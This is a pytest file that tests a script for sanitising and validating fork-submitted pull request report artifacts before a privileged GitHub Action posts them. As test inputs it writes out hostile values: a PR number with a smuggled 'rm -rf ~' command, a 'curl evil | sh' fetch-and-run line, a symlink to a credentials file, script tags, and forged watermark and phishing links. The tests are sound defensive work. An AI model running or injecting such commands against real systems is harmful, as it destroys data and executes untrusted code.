"""actions/report/untrusted.py, the check a fork's report passes before the privileged commenter posts it: every way
an artifact can be forged, run as the action runs the script (a process, its environment, the GitHub double).
test_e2e_pr_flow.py runs the same script inside pr-comment.yml under act."""

from __future__ import annotations

import html
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from mlops.github.client import WATERMARK_RE, is_ours
from tests.github_double import GitHubDoubleWithPulls

SCRIPT = Path(__file__).resolve().parents[2] / "actions/report/untrusted.py"
HEAD = "a" * 40
OTHER = "b" * 40
FORK = "evil-fork/churn"


@pytest.fixture(scope="module")
def gh() -> Iterator[GitHubDoubleWithPulls]:
    double = GitHubDoubleWithPulls().start()
    # 5: a same-repository pull request whose head is the fork's commit (a maintainer pushed it to a branch here).
    double.pulls.update({2: (HEAD, FORK), 1: (OTHER, "acme/churn"), 5: (HEAD, "acme/churn")})
    yield double
    double.stop()


def _run(gh: GitHubDoubleWithPulls, tmp_path: Path, files: dict[str, bytes], *, head: str = HEAD,
         head_repo: str = FORK, max_bytes: int = 65536) -> subprocess.CompletedProcess[str]:
    artifact = tmp_path / "artifact"
    artifact.mkdir()
    for name, data in files.items():
        (artifact / name).write_bytes(data)
    env = {**os.environ, "GITHUB_API_URL": gh.url, "GITHUB_REPOSITORY": "acme/churn", "GITHUB_TOKEN": "ghs_x",
           "MLOPS_HEAD_SHA": head, "MLOPS_HEAD_REPO": head_repo, "MLOPS_MAX_BYTES": str(max_bytes)}
    return subprocess.run([sys.executable, str(SCRIPT), str(artifact), str(tmp_path / "safe")], env=env,
                          capture_output=True, text=True, check=False)


def test_a_genuine_artifact_passes_with_its_number(gh: GitHubDoubleWithPulls, tmp_path: Path) -> None:
    proc = _run(gh, tmp_path, {"pr-number": b"2\n", "report.md": b"## report\n\n| a | b |\n"})
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "2\n"
    assert (tmp_path / "safe/report.md").read_text() == "## report\n\n| a | b |\n"


@pytest.mark.parametrize(("number", "says"), [
    (b"2;rm -rf ~\n", "not a positive integer"),
    (b"-2\n", "not a positive integer"),
    (b"0\n", "not a positive integer"),
    (b"2e3\n", "not a positive integer"),
    (b"\xd9\xa2\n", "not a positive integer"),  # an Arabic-Indic two: int() would take it
    (b"99999999999999999\n", "has 18 bytes, more than the 16 accepted"),
])
def test_a_number_that_is_not_a_plain_integer_is_refused(gh: GitHubDoubleWithPulls, tmp_path: Path, number: bytes,
                                                         says: str) -> None:
    proc = _run(gh, tmp_path, {"pr-number": number, "report.md": b"ok"})
    assert proc.returncode == 1
    assert says in proc.stderr and proc.stdout == ""
    assert not (tmp_path / "safe").exists()


def test_a_number_whose_pull_request_has_another_head_is_refused(gh: GitHubDoubleWithPulls, tmp_path: Path) -> None:
    proc = _run(gh, tmp_path, {"pr-number": b"1\n", "report.md": b"ok"})
    assert proc.returncode == 1
    assert f"pull request #1 has head {OTHER[:12]}, but the run that uploaded the artifact built {HEAD[:12]}" \
        in proc.stderr


def test_a_number_of_no_pull_request_is_refused(gh: GitHubDoubleWithPulls, tmp_path: Path) -> None:
    proc = _run(gh, tmp_path, {"pr-number": b"77\n", "report.md": b"ok"})
    assert proc.returncode == 1
    assert "pull request #77 cannot be read (404)" in proc.stderr


@pytest.mark.parametrize(("files", "says"), [
    ({"pr-number": b"2", "report.md": b"x" * 70_000}, "report.md has 70000 bytes, more than the 65536 accepted"),
    ({"pr-number": b"2"}, "must hold exactly"),
    ({"pr-number": b"2", "report.md": b"ok", "run.sh": b"curl evil | sh"}, "must hold exactly"),
    ({"pr-number": b"2", "report.md": b"\xff\xfe not utf-8"}, "report.md is not UTF-8 text"),
])
def test_a_malformed_artifact_is_refused(gh: GitHubDoubleWithPulls, tmp_path: Path, files: dict[str, bytes],
                                         says: str) -> None:
    proc = _run(gh, tmp_path, files)
    assert proc.returncode == 1
    assert says in proc.stderr


def test_a_symlink_in_the_artifact_is_refused(gh: GitHubDoubleWithPulls, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("the runner's credentials")
    artifact = tmp_path / "artifact"
    artifact.mkdir()
    (artifact / "pr-number").write_text("2")
    (artifact / "report.md").symlink_to(secret)
    env = {**os.environ, "GITHUB_API_URL": gh.url, "GITHUB_REPOSITORY": "acme/churn", "GITHUB_TOKEN": "ghs_x",
           "MLOPS_HEAD_SHA": HEAD, "MLOPS_HEAD_REPO": FORK}
    proc = subprocess.run([sys.executable, str(SCRIPT), str(artifact), str(tmp_path / "safe")], env=env,
                          capture_output=True, text=True, check=False)
    assert proc.returncode == 1
    assert "report.md is not a regular file" in proc.stderr


def test_mentions_references_and_markup_are_made_inert(gh: GitHubDoubleWithPulls, tmp_path: Path) -> None:
    report = ("## ✅ mlops report\n\n@octocat @acme/team GH-12 #3 acme/churn#4 x&#35;y\n"
              "<script>alert(1)</script><img src=x><!-- @hidden -->\n<!-- mlops:footer -->\n"
              "<details><summary>3 checks passed</summary>\n\n| a |\n</details>\n<sub>footer</sub>\n"
              '![](https://cml.dev/watermark.png#abc "CML watermark")\n\u202eevil\u202c\n')
    proc = _run(gh, tmp_path, {"pr-number": b"2", "report.md": report.encode()})
    assert proc.returncode == 0, proc.stderr
    safe = (tmp_path / "safe/report.md").read_text()
    assert "@\u200boctocat" in safe and "@\u200bacme/team" in safe
    assert "GH-\u200b12" in safe and "#\u200b3" in safe and "churn#\u200b4" in safe
    assert "x&amp;#\u200b35;y" in safe  # an entity is shown as text: GitHub would decode it into a reference
    assert "<script>" not in safe and "&lt;script&gt;" in safe and "&lt;img src=x&gt;" in safe
    assert "&lt;!-- @\u200bhidden --&gt;" in safe and "<!-- mlops:footer -->" in safe
    assert "<details><summary>3 checks passed</summary>" in safe and "</details>" in safe and "<sub>" in safe
    assert "watermark" not in safe
    assert "\u202e" not in safe


def test_a_same_repository_pull_request_with_the_forks_commit_is_refused(gh: GitHubDoubleWithPulls,
                                                                         tmp_path: Path) -> None:
    """Its trusted sticky comment must not be overwritten by the fork's report: the head repository binds too."""
    proc = _run(gh, tmp_path, {"pr-number": b"5\n", "report.md": b"## all good"})
    assert proc.returncode == 1, proc.stderr
    assert "pull request #5 comes from acme/churn, but the run that uploaded the artifact built evil-fork/churn" \
        in proc.stderr
    assert not (tmp_path / "safe").exists()


def test_a_run_of_this_repository_is_not_posted_as_a_fork_report(gh: GitHubDoubleWithPulls, tmp_path: Path) -> None:
    proc = _run(gh, tmp_path, {"pr-number": b"5\n", "report.md": b"ok"}, head_repo="acme/churn")
    assert proc.returncode == 1
    assert "this path posts the reports of forks only" in proc.stderr


def _rendered(gh: GitHubDoubleWithPulls, tmp_path: Path, report: str) -> str:
    proc = _run(gh, tmp_path, {"pr-number": b"2", "report.md": report.encode()})
    assert proc.returncode == 0, proc.stderr
    return (tmp_path / "safe/report.md").read_text()


@pytest.mark.parametrize("encoded", ["&#64;octocat", "&#x40;acme/team", "&#X40;octocat", "&commat;octocat",
                                     "&#0064;octocat", "&#35;12", "&#x23;12", "&num;12", "acme/churn&#35;4",
                                     "&amp;#64;octocat"])
def test_entity_encoded_mentions_and_references_are_made_inert(gh: GitHubDoubleWithPulls, tmp_path: Path,
                                                               encoded: str) -> None:
    safe = _rendered(gh, tmp_path, f"cc {encoded} please\n")
    # GitHub decodes entities once, then looks for mentions and references in the text it got.
    decoded = html.unescape(safe)
    assert not re.search(r"@[A-Za-z0-9]", decoded), safe
    assert not re.search(r"#[0-9]", decoded), safe


def test_the_reports_own_entities_survive(gh: GitHubDoubleWithPulls, tmp_path: Path) -> None:
    """What mlops.markdown.md writes for `#`, `&`, `<` and `"` in a cell is left as it is (it pings nothing)."""
    report = "| fix &#35;&#8203;12 &amp; co &lt;b&gt; &quot;x&quot; |\n"
    assert _rendered(gh, tmp_path, report) == report


def test_a_nested_forged_sticky_marker_is_removed_entirely(gh: GitHubDoubleWithPulls, tmp_path: Path) -> None:
    forged = ('!![](https://cml.dev/watermark.png)[](https://cml.dev/watermark.png#abc "CML watermark nightly")\n'
              '![![](https://cml.dev/watermark.png)](https://cml.dev/watermark.png#d "CML watermark")\n'
              '![][w]\n\n[w]: https://cml.dev/watermark.png#e "CML watermark fork"\n')
    safe = _rendered(gh, tmp_path, forged)
    assert not WATERMARK_RE.search(safe), safe
    assert not any(is_ours(safe, label) for label in ("", "nightly", "fork"))
    assert "watermark" not in safe.lower()  # what is left of it is broken up


def test_hidden_link_reference_definitions_are_shown(gh: GitHubDoubleWithPulls, tmp_path: Path) -> None:
    report = ('## report\n\n[approve]: https://evil.example/approve "Approve the model here"\n'
              '> [x]: https://evil.example "hidden in a quote"\n   [y]: <https://evil.example>\n')
    safe = _rendered(gh, tmp_path, report)
    assert "\\[approve]: https://evil.example/approve" in safe
    assert "&gt; \\[x]: https://evil.example" in safe  # no block quote either: `>` is escaped
    assert "   \\[y]: &lt;https://evil.example&gt;" in safe
